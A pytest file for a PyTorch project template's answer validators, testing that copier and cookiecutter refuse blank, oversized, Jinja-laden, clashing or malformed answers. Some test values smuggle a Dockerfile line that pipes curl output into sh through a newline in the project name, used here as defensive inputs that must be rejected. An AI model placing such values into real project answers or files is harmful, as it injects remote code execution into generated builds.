"""Bad answers: one message naming the question, the rule and the value; no folder.

Each case goes through the real engines' command lines, copier and cookiecutter.
"""

from __future__ import annotations

import json
import sys
import tomllib
from email.errors import MessageError

import pytest
import yaml
from checkers import check, tool
from rendering import (
    TEMPLATE,
    cookiecutter_command,
    copier_command,
    render_copier,
    run_command,
)

sys.path.insert(0, str(TEMPLATE / "hooks"))
import answers

CONFIG = answers.load_config()

# (answers, the question, the message's start: the part an interactive prompt shows)
BAD_ANSWERS = [
    ({"project_name": "   "}, "project_name", "is blank"),
    ({"project_name": ""}, "project_name", "is blank"),
    ({"project_name": "Net\nRUN curl x | sh"}, "project_name", "holds a control"),
    ({"project_name": "Net\tTab"}, "project_name", "holds a control"),
    ({"project_name": "Net {{ 7*7 }}"}, "project_name", "holds Jinja markup"),
    ({"description": "line one\nline two"}, "description", "holds a control"),
    ({"description": "A {# comment #}"}, "description", "holds Jinja markup"),
    ({"description": " "}, "description", "is blank"),
    ({"author_name": "Ada\nLovelace"}, "author_name", "holds a control"),
    (
        {"author_name": "Ada {% if 1 %}L{% endif %}"},
        "author_name",
        "holds Jinja markup",
    ),
    ({"project_slug": "My Slug"}, "project_slug", "is not a slug"),
    ({"project_slug": "my-slug\r"}, "project_slug", "holds a control"),
    ({"package_name": "My-Package"}, "package_name", "is not a lowercase identifier"),
    ({"package_name": "9lives"}, "package_name", "is not a lowercase identifier"),
    ({"package_name": "class"}, "package_name", "is a Python keyword"),
    ({"package_name": "torch"}, "package_name", "shadows a dependency"),
    ({"package_name": "numpy"}, "package_name", "shadows a dependency"),
    ({"package_name": "jsonschema"}, "package_name", "shadows a dependency"),
    ({"package_name": "os"}, "package_name", "shadows a standard-library module"),
    # Modules of the generated project: its tests import these by name, and the package's
    # own modules collide with it in its imports (ruff F811).
    ({"package_name": "conftest"}, "package_name", "clashes with a generated module"),
    ({"package_name": "correct_modules"}, "package_name", "clashes with a generated"),
    ({"package_name": "train"}, "package_name", "clashes with a generated module"),
    (
        {"package_name": "sharded_checkpoint"},
        "package_name",
        "clashes with a generated",
    ),
    ({"package_name": "a" * 31}, "package_name", "is too long"),
    ({"package_name": "a" * 64}, "package_name", "is too long"),
    ({"project_name": "N" * 300}, "project_name", "is too long"),
    ({"project_name": "N" * 101}, "project_name", "is too long"),
    ({"project_slug": "s" * 101}, "project_slug", "is too long"),
    ({"layer_class": "scaled_linear"}, "layer_class", "is not a CamelCase"),
    ({"layer_class": "Scaled_Linear"}, "layer_class", "is not a CamelCase"),
    ({"layer_class": "None"}, "layer_class", "is a Python keyword"),
    ({"layer_class": "Tensor"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "F"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "ModuleContractError"}, "layer_class", "clashes with a generated"),
    ({"layer_class": "Callable"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "Path"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "Any"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "Layer"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "ValueError"}, "layer_class", "clashes with a generated name"),
    ({"layer_class": "L" * 51}, "layer_class", "is too long"),
    ({"author_email": "not-an-email"}, "author_email", "is not an email address"),
    ({"author_email": "a@b"}, "author_email", "is not an email address"),
    ({"author_email": "a b@example.org"}, "author_email", "is not an email address"),
    ({"author_email": 'a"b@example.org'}, "author_email", "is not an email address"),
    ({"author_email": "a,b<c>@example.org"}, "author_email", "is not an email"),
    ({"torch_min": "two"}, "torch_min", "is not a version"),
    ({"torch_min": "2.1"}, "torch_min", "is older than 2.5"),
    ({"torch_min": "2.50"}, "torch_min", "is newer than any torch release"),
    ({"torch_min": "3.0"}, "torch_min", "is newer than any torch release"),
    ({"torch_min": "2.5.0.1"}, "torch_min", "is not a version"),
]
# Refused by both engines before any validator of the template runs: the message is the
# engine's own (copier: "Invalid choice"/"Validation error"; cookiecutter: a ValueError).
REFUSED_BY_THE_ENGINES = [
    {"license": "GPL"},
    {"python_version": "3.10"},
    {"docker": "nope"},  # copier: the template's validator; cookiecutter: its own rule
    {"tmux": "2"},
]


def ids(case):
    return "-".join(f"{k}={v[:40]!r}" for k, v in case[0].items())


def run_engine(engine: str, tmp_path, given: dict[str, str]):
    """Run an engine on ``given``; return (exit status, output, what it left behind)."""
    if engine == "copier":
        dest = tmp_path / "project"
        result = run_command(copier_command(dest, given))
        left = [dest] if dest.exists() else []
    else:
        out = tmp_path / "out"
        result = run_command(cookiecutter_command(out, given))
        left = list(out.iterdir()) if out.exists() else []
    return result.returncode, result.stdout + result.stderr, left


@pytest.mark.parametrize("case", BAD_ANSWERS, ids=[ids(c) for c in BAD_ANSWERS])
@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
def test_bad_answer_is_rejected_with_a_clear_message(tmp_path, engine, case) -> None:
    given, question, start = case
    status, output, left = run_engine(engine, tmp_path, given)
    assert status != 0
    (expected,) = answers.validate(given, CONFIG)  # "question: message"
    message = expected.split(": ", 1)[1]
    assert message.startswith(start)
    if engine == "copier":
        # The last line of copier's traceback (see the README, "The questions").
        assert f"Validation error for question '{question}': {message}" in output
        assert output.count("Validation error for question") == 1
    else:
        # One message: the first broken rule, not what follows from it (the slug made
        # from a bad name, the package from a bad slug).
        errors = [line for line in output.splitlines() if line.startswith("error: ")]
        assert errors == [f"error: {question}: {message}"]
    assert left == [], f"{engine} left {left} behind"


@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
def test_slug_made_from_the_name_is_blamed_on_the_name(tmp_path, engine) -> None:
    """A name that gives no slug: the message says where the slug came from and what to
    do, rather than blame an empty value the user never typed."""
    status, output, left = run_engine(engine, tmp_path, {"project_name": "🚀🔥"})
    assert status != 0
    assert left == []
    expected = (
        "project_slug: is empty; made from the project name unless given, and '🚀🔥' "
        "has no ASCII letter or digit"
    )
    if engine == "copier":
        assert expected.replace("project_slug: ", "question 'project_slug': ") in output
    else:
        assert f"error: {expected}" in output
    assert "give project_slug explicitly" in output
    assert "got ''" not in output
    # A slug made from a name starting with a digit says so too.
    (message,) = answers.validate(
        {"project_name": "3D Net", "project_slug": "3d-net"}, CONFIG
    )
    assert "made from the project name" in message
    assert "give project_slug explicitly" in message


def test_namespace_passed_as_data_is_refused(tmp_path) -> None:
    """The computed `cookiecutter` question is every file's namespace: a value passed for
    it would skip every validator (a newline into the Dockerfile, a package named `os`)
    and render other answers than .copier-answers.yml records. copier validates a
    computed question only when a value is passed, and its validator refuses any."""
    dest = tmp_path / "project"
    namespace = {
        "project_name": "Net\nRUN curl https://example.org/x | sh",
        "project_slug": "my-model",
        "package_name": "os",
    }
    data_file = tmp_path / "data.yml"
    data_file.write_text(yaml.safe_dump({"cookiecutter": namespace}))
    options = [
        ["--data", f"cookiecutter={json.dumps(namespace)}"],
        ["--data-file", str(data_file)],
    ]
    for option in options:
        result = run_command(copier_command(dest, {}, *option))
        assert result.returncode != 0
        assert (
            "Validation error for question 'cookiecutter': is built from the other "
            "answers, not given; pass each answer with --data NAME=VALUE"
        ) in result.stderr
        assert not dest.exists()
    # The same name given as an answer is refused by the answer's own validator.
    result = run_command(copier_command(dest, {"package_name": "os"}))
    assert "Validation error for question 'package_name'" in result.stderr
    assert not dest.exists()


def test_longest_names_accepted_render_clean(tmp_path) -> None:
    """At the bounds (package_name 30, layer_class 50 characters) the render passes its
    own `ruff check` and `ruff format --check`; one character more is refused above."""
    package, layer = "p" * 30, "L" + "x" * 49
    assert answers.validate({"package_name": package, "layer_class": layer}) == []
    project = render_copier(
        tmp_path / "project", {"package_name": package, "layer_class": layer}
    )
    check(tool("ruff"), "check", ".", cwd=project)
    check(tool("ruff"), "format", "--check", ".", cwd=project)


def test_generated_modules_are_read_from_the_generated_project() -> None:
    names = answers.generated_modules()
    for name in [
        *("conftest", "broken_modules", "correct_modules", "test_devcontainer"),
        *("train", "export", "checkpoint", "optim", "sharded_checkpoint", "noxfile"),
    ]:
        assert name in names
        (message,) = answers.validate({"package_name": name}, CONFIG)
        assert "clashes with a generated module" in message or "shadows" in message


def test_torch_min_range() -> None:
    """From 2.5 to the newest torch release the template knows, written once."""
    validator = CONFIG["torch_min"]["validator"]
    (newest,) = [
        line.split('"')[1]
        for line in validator.splitlines()
        if "torch_newest =" in line
    ]
    major, minor, patch = map(int, newest.split("."))
    for good in ["2.5", "2.5.1", f"{major}.{minor}", newest]:
        assert answers.validate({"torch_min": good}, CONFIG) == [], good
    for bad in [
        f"{major}.{minor}.{patch + 1}",
        f"{major}.{minor + 1}",
        f"{major + 1}.0",
    ]:
        (message,) = answers.validate({"torch_min": bad}, CONFIG)
        assert f"the newest is {newest}" in message, bad


@pytest.mark.parametrize("given", REFUSED_BY_THE_ENGINES, ids=str)
@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
def test_engines_refuse_what_is_not_a_choice_or_a_yes_no(tmp_path, engine, given):
    status, output, left = run_engine(engine, tmp_path, given)
    assert status != 0
    (value,) = given.values()
    assert value in output
    assert left == []


@pytest.mark.parametrize("text", ["Net {{", "Net {%", "Net {#"])
@pytest.mark.parametrize("engine", ["copier", "cookiecutter"])
def test_unclosed_jinja_markup_is_refused(tmp_path, engine, text) -> None:
    """copier: the template's message. cookiecutter evaluates a command-line answer as
    Jinja while it reads its answers, before any template code (hook) runs: it stops
    with jinja2's TemplateSyntaxError and a traceback; nothing is written either way."""
    status, output, left = run_engine(engine, tmp_path, {"project_name": text})
    assert status != 0
    if engine == "copier":
        assert "Validation error for question 'project_name': holds Jinja" in output
    elif text == "Net {#":  # jinja2 reads an unclosed comment as text: the hook speaks
        assert "error: project_name: holds Jinja markup" in output
    else:
        assert "jinja2.exceptions.TemplateSyntaxError" in output
    assert left == []


def test_messages_fit_one_terminal_line_before_their_detail() -> None:
    """An interactive copier prompt shows a message on one line, cut at the terminal's
    width: the part before the first ";" (what is wrong) fits in 80 columns."""
    for given, question, _ in BAD_ANSWERS:
        (message,) = answers.validate(given, CONFIG)
        headline = message.split(": ", 1)[1].split(";")[0]
        prefix = answers.COPIER_PREFIX.format(name=question)
        assert len(prefix + headline) <= answers.TERMINAL_WIDTH, (question, headline)


@pytest.mark.parametrize("name", answers.bound_names(CONFIG))
def test_every_name_the_generated_code_binds_is_refused(name: str) -> None:
    (message,) = answers.validate({"layer_class": name}, CONFIG)
    assert message.startswith("layer_class: ")
    assert name in message


def test_bound_names_are_read_from_the_generated_code() -> None:
    names = answers.bound_names(CONFIG)
    # Imports, module functions and classes of different generated files, and builtins.
    for name in ["F", "Callable", "Path", "Any", "ModuleContractError", "Model"]:
        assert name in names
    assert "ValueError" in names
    assert "ScaledLinear" not in names  # the layer itself is the answer


def test_dependency_list_covers_every_extra_and_group() -> None:
    rendered = answers.render_generated(
        "pyproject.toml", answers.default_context(CONFIG), CONFIG
    )
    data = tomllib.loads(rendered)
    names = answers.dependency_names(CONFIG)
    groups = [data["project"]["dependencies"]]
    groups += data["project"].get("optional-dependencies", {}).values()
    groups += [g for g in data.get("dependency-groups", {}).values()]
    for requirement in (r for g in groups for r in g if isinstance(r, str)):
        if requirement.startswith("my-model"):
            continue
        name = requirement.split(";")[0].split("[")[0].split(">")[0].split("<")[0]
        normalized = name.strip().replace("-", "_").replace(".", "_").lower()
        assert normalized in names, requirement
        assert answers.validate({"package_name": normalized}, CONFIG), normalized


# Addresses hatchling (the generated project's build backend) accepts or refuses.
EMAILS = [
    "you@example.org",
    "o'brien+ml@sub.example.co.uk",
    "a@-x.org",
    "x_y{z}@b_c.org",
    'a"b@example.org',
    "a,b<c>@example.org",
    "a..b@example.org",
    ".a@example.org",
    "a.@example.org",
    "a@example..org",
    "a b@example.org",
    "a@b@example.org",
    "a@b",
    '"a b"@example.org',
    "a@[1.2.3.4]",
    "@example.org",
    "a@",
]
# Taken by hatchling, refused here (the README says why): no dot in the domain, quoted
# local parts, domain literals.
STRICTER = {"a@b", '"a b"@example.org', "a@[1.2.3.4]"}


def test_email_rule_is_the_build_backends_rule(rendered) -> None:
    """The validator never accepts an address that hatchling's own metadata code refuses
    (it builds `email.headerregistry.Address(display_name=..., addr_spec=...)`)."""
    metadata = pytest.importorskip("hatchling.metadata.core", reason="hatchling")
    project = rendered("default")
    config = tomllib.loads((project / "pyproject.toml").read_text())
    for email in EMAILS:
        config["project"]["authors"] = [{"name": "Zoë O'Brien", "email": email}]
        core = metadata.ProjectMetadata(str(project), None, config).core
        try:
            built = bool(core.authors_data)
        except (ValueError, IndexError, MessageError):  # what Address(...) raises
            built = False
        ours = not answers.validate({"author_email": email}, CONFIG)
        if email in STRICTER:
            assert built and not ours, email
        else:
            assert ours == built, f"{email}: hatchling {built}, validator {ours}"
